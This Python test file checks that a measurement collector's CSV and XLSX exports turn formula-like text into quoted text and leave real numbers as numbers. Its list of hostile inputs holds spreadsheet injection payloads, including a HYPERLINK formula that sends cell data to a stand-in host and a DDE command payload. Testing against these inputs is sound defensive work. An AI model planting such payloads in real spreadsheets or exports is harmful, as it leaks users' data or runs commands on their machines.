"""#11: a probe names its own operator, link and engine, so exports must not hand a spreadsheet a formula:
text that starts like one is written as text in CSV and XLSX; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io

import requests
from conftest import make_measurement
from openpyxl import load_workbook

from xaprobe.collector.exports import to_csv, to_xlsx
from xaprobe.wire import Link, to_wire

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


def test_formula_text_is_text_and_numbers_stay_numbers():
    header = ["text", "int", "negative", "float", "none"]
    rows = [[text, 7, -5, -0.25, None] for text in HOSTILE] + [["Viettel", 1, -1, 2.5, None]]
    sheet = load_workbook(io.BytesIO(to_xlsx(header, rows, "t"))).active
    cells = list(sheet.iter_rows(min_row=2))
    for row, text in zip(cells, HOSTILE):
        # XML reads a CR back as a line feed; what matters is that the cell is quoted text
        assert row[0].data_type == "s" and row[0].value == text.replace("\r", "\n") and row[0].quotePrefix
    assert [c.data_type for row in cells for c in row[1:4]] == ["n"] * 3 * len(rows)
    assert [c.value for c in cells[-1][:4]] == ["Viettel", 1, -1, 2.5] and not cells[-1][0].quotePrefix
    parsed = list(csv.reader(io.StringIO(to_csv(header, rows).decode("utf-8-sig"))))
    assert [r[0] for r in parsed[1:]] == ["'" + t for t in HOSTILE] + ["Viettel"]
    assert parsed[1][1:] == ["7", "-5", "-0.25", ""]


def test_exports_of_hostile_probe_text(sqlite_collector):
    c = sqlite_collector
    token = c.enrol()
    items = [to_wire(make_measurement(engine=text[:32].strip(), link=Link(name=text[:64].strip(), operator=text)))
             for text in HOSTILE[:4]]
    answer = requests.post(c.base + "/api/v1/measurements", json={"measurements": items}, timeout=30,
                           headers={"Authorization": f"Bearer {token}"})
    assert [r["status"] for r in answer.json()["results"]] == ["accepted"] * 4
    admin = {"Authorization": f"Bearer {c.admin_token}"}
    xlsx = requests.get(c.base + "/export/raw.xlsx?commune=18673", headers=admin, timeout=30)
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(HOSTILE[:4]) <= texts
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert 42.5 in numbers and 50_000_000 in numbers  # download_mbps and bytes_down stay numbers
    raw_csv = requests.get(c.base + "/export/raw.csv?commune=18673&lang=en", headers=admin, timeout=30).content
    rows = list(csv.DictReader(io.StringIO(raw_csv.decode("utf-8-sig"))))
    assert sorted(r["Operator"] for r in rows) == sorted("'" + t for t in HOSTILE[:4])
    assert all(r["Download (Mbit/s)"] == "42.5" for r in rows)
    report = requests.get(c.base + "/export/report.xlsx?province=42", headers=admin, timeout=30)
    report_cells = [cell for row in load_workbook(io.BytesIO(report.content)).active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in report_cells if cell.data_type == "f"]
    assert HOSTILE[0] in {cell.value for cell in report_cells}
